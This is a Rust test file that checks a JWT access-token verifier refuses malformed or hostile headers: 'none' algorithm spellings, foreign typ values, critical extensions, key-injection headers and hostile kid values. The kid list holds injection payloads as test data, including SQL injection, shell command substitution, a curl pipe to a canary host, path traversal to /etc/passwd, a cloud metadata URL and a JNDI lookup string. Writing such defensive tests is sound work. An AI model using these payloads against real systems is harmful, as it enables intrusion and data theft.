//! The rules of token headers (rows 1, 3, 4, 10 and 11).

use serde_json::{Value, json};

use crate::auth::support::{
    IssuerRules, KEY, TestKey, TokenError, World, changed, good_claims, good_header, rules, to_base64url,
};

/// Signed with the right key for every header, so that only the header can be the reason of a refusal.
async fn check(world: &World, name: &str, header: Value, is_accepted: bool) {
    let found = world.verify(&KEY.token(&header, &good_claims())).await;
    assert_eq!(found.is_ok(), is_accepted, "{name} in {header}: {found:?}");
    if let Err(error) = found {
        assert_ne!(error, TokenError::Signature, "{name}: refused for the wrong reason");
    }
}

#[tokio::test]
async fn alg_is_one_known_name() {
    let world = World::new();
    check(&world, "good", good_header(), true).await;
    check(&world, "absent", changed(good_header(), "alg", None), false).await;
    let names = [
        "none",
        "None",
        "NONE",
        "nOnE",
        "NoNe",
        "none ",
        " none",
        "none\0",
        "\u{ff4e}one",
        "n\u{043e}ne",
        "",
        "null",
        "undefined",
        "es256",
        "ES256 ",
        " ES256",
        "ES256\0",
        "ES-256",
        "ES256K",
        "ES512",
        "ES521",
        "PS384",
        "PS512",
        "HS384",
        "HS512",
        "RS1",
        "dir",
        "A256KW",
        "RSA-OAEP",
        "RSA1_5",
        "Ed25519",
        "Ed448",
        "EDDSA",
        "ＥＳ256",
        "HS256",
        "RS256",
        "PS256",
        "EdDSA",
        "ES384",
    ];
    for name in names {
        check(&world, "alg", changed(good_header(), "alg", Some(name.into())), false).await;
    }
    for value in [json!(null), json!(true), json!(0), json!(256), json!(["ES256"]), json!({ "alg": "ES256" }), json!([])] {
        check(&world, "alg", changed(good_header(), "alg", Some(value)), false).await;
    }
    for name in ["Alg", "ALG", "alg ", "al\u{17f}"] {
        let header = changed(changed(good_header(), "alg", None), name, Some("ES256".into()));
        check(&world, "name of alg", header, false).await;
    }
}

#[tokio::test]
async fn unsigned_tokens_are_refused_in_every_spelling() {
    let world = World::new();
    for alg in ["none", "None", "NONE", "nOnE", "HS256", "ES256", "RS256"] {
        let header = to_base64url(changed(good_header(), "alg", Some(alg.into())).to_string().as_bytes());
        let claims = to_base64url(good_claims().to_string().as_bytes());
        for signature in [String::new(), "AA".into(), to_base64url(&[0; 64]), to_base64url(b"none"), to_base64url(&[0; 32])] {
            let found = world.verify(&format!("{header}.{claims}.{signature}")).await;
            assert!(found.is_err(), "{alg} {signature}");
        }
    }
}

#[tokio::test]
async fn typ_is_that_of_an_access_token() {
    let world = World::new();
    check(&world, "absent", changed(good_header(), "typ", None), true).await;
    for typ in ["JWT", "jwt", "at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "Application/AT+jwt"] {
        check(&world, "typ", changed(good_header(), "typ", Some(typ.into())), true).await;
    }
    let foreign = [
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "application/dpop+jwt",
        "DPOP+JWT",
        "token-introspection+jwt",
        "kb+jwt",
        "JWE",
        "JOSE",
        "JOSE+JSON",
        "oauth-authz-req+jwt",
        "client-authentication+jwt",
        "",
        " ",
        "at+jwt ",
        "at+jwt;charset=utf-8",
        "jwt\0",
        "id+jwt",
        "application/jwt+at",
        "text/at+jwt",
        "application/application/at+jwt",
    ];
    for typ in foreign {
        check(&world, "typ", changed(good_header(), "typ", Some(typ.into())), false).await;
    }
    for value in [json!(null), json!(1), json!(["at+jwt"]), json!({}), json!(true)] {
        check(&world, "typ", changed(good_header(), "typ", Some(value)), false).await;
    }
}

#[tokio::test]
async fn an_issuer_can_require_the_type() {
    let world = World::with_rules(vec![IssuerRules { require_typ: true, ..rules() }]);
    for (typ, is_accepted) in [("at+jwt", true), ("application/at+jwt", true), ("AT+JWT", true), ("JWT", false)] {
        check(&world, "typ", changed(good_header(), "typ", Some(typ.into())), is_accepted).await;
    }
    check(&world, "absent", changed(good_header(), "typ", None), false).await;
}

#[tokio::test]
async fn extensions_are_not_understood() {
    let world = World::new();
    let hostile = [
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["https://example.com/unknown"])),
        ("crit", json!([])),
        ("crit", json!(null)),
        ("crit", json!("exp")),
        ("crit", json!({})),
        ("b64", json!(false)),
        ("b64", json!(null)),
        ("b64", json!("false")),
        ("b64", json!(0)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("zip", json!(null)),
        ("cty", json!("JWT")),
        ("cty", json!("jwt")),
        ("cty", json!("application/JWT")),
        ("cty", json!("at+jwt")),
        ("cty", json!(null)),
        ("cty", json!(["JWT"])),
        ("kid", json!(null)),
        ("kid", json!(1)),
        ("kid", json!(["k1"])),
        ("kid", json!({ "kid": "k1" })),
        ("kid", json!(true)),
    ];
    for (name, value) in hostile {
        check(&world, name, changed(good_header(), name, Some(value)), false).await;
    }
    let mut both = changed(good_header(), "b64", Some(json!(false)));
    both["crit"] = json!(["b64"]);
    check(&world, "crit and b64", both, false).await;
}

#[tokio::test]
async fn keys_in_the_header_are_not_looked_at() {
    let world = World::new();
    world.verify(&KEY.token(&good_header(), &good_claims())).await.unwrap();
    let before = world.server.count();
    let attacker = TestKey::es256();
    let canary = "https://canary.example/keys";
    world.server.serve(canary, crate::auth::support::Answer::Body(crate::auth::support::jwks(&[attacker.jwk("k1")])));
    let baits = [
        ("jwk", attacker.jwk("k1")),
        ("jku", json!(canary)),
        ("x5u", json!(canary)),
        ("x5c", json!([to_base64url(b"certificate")])),
        ("x5t", json!("AAAA")),
        ("jwks_uri", json!(canary)),
        ("iss", json!("https://canary.example")),
    ];
    for (name, value) in baits {
        let header = changed(good_header(), name, Some(value));
        let forged = world.verify(&attacker.token(&header, &good_claims())).await;
        assert_eq!(forged.unwrap_err(), TokenError::Signature, "{name}");
        check(&world, name, header, true).await;
    }
    assert_eq!(world.server.count(), before, "a header made the service fetch something");
}

#[tokio::test]
async fn kid_is_a_name_and_nothing_else() {
    let world = World::new();
    world.verify(&KEY.token(&good_header(), &good_claims())).await.unwrap();
    let before = world.server.count();
    let long = "k".repeat(256);
    let hostile = [
        "",
        " ",
        "k1 ",
        " k1",
        "K1",
        "k1\0",
        "k1\n",
        "k%31",
        "../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "' OR '1'='1",
        "k1'; DROP TABLE keys;--",
        "' UNION SELECT 'secret';--",
        "$(sleep 10)",
        "`id`",
        "|curl canary.example",
        "k1;id",
        "https://canary.example/keys",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
        "${jndi:ldap://canary.example/a}",
        "{{7*7}}",
        "*",
        "k*",
        "k.",
        "[k1]",
        "\u{202e}1k",
        "ｋ1",
        "\u{0}",
        "__proto__",
        "constructor",
        "0",
        "null",
        "undefined",
        "\\u006b1",
        long.as_str(),
    ];
    for kid in hostile {
        check(&world, "kid", changed(good_header(), "kid", Some(kid.into())), false).await;
    }
    for length in [257, 8192] {
        let header = changed(good_header(), "kid", Some("k".repeat(length).into()));
        let found = world.verify(&KEY.token(&header, &good_claims())).await.unwrap_err();
        assert_eq!(found, TokenError::HeaderParameter("kid"));
    }
    assert_eq!(world.server.count(), before + 1, "all of them together may ask the issuer once");
}

#[tokio::test]
async fn without_a_kid_the_only_key_is_meant() {
    let world = World::new();
    check(&world, "no kid", changed(good_header(), "kid", None), true).await;
    world.server.serve_keys(&[KEY.jwk("k1"), TestKey::es256().jwk("k2")]);
    world.verifier.refresh().await;
    world.verify(&KEY.token(&good_header(), &good_claims())).await.unwrap();
    let nameless = changed(changed(good_header(), "kid", None), "x", Some(json!(1)));
    check(&world, "no kid, two keys", nameless, false).await;
}

#[tokio::test]
async fn an_error_repeats_little_of_the_token_and_escapes_it() {
    let world = World::new();
    let alg = format!("evil\n\u{1b}[31m{}", "x".repeat(1000));
    let header = changed(good_header(), "alg", Some(alg.into()));
    let error = world.verify(&KEY.token(&header, &good_claims())).await.unwrap_err().to_string();
    assert!(error.starts_with(r"algorithm `evil\n\u{1b}[31mxxx"), "{error}");
    assert!(error.len() < 120 && !error.contains('\n') && !error.contains('\u{1b}'));
}
